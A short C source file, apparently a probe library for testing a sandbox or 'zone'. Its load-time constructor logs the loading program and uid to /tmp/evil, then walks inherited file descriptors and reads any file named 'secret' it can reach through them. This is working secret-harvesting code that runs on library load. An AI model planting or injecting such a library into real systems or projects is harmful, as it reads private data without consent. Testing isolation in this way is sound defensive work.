/* A library that a zone makes its programs load: notes who loads it, and what that has open. */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

extern char *program_invocation_name;

__attribute__((constructor)) static void loaded(void) {
  FILE *note = fopen("/tmp/evil", "a");
  char path[64], target[256];
  if (note == NULL) return;
  fprintf(note, "loaded by %s uid %d\n", program_invocation_name, (int)getuid());
  for (int fd = 3; fd < 64; fd++) {
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(path, target, sizeof target - 1);
    if (n < 0 || fd == fileno(note)) continue;
    target[n] = '\0';
    fprintf(note, "has %d %s\n", fd, target);
    int secret = openat(fd, "secret", O_RDONLY);
    char text[64];
    if (secret >= 0 && (n = read(secret, text, sizeof text - 1)) > 0) fprintf(note, "read %.*s\n", (int)n, text);
  }
  fclose(note);
}
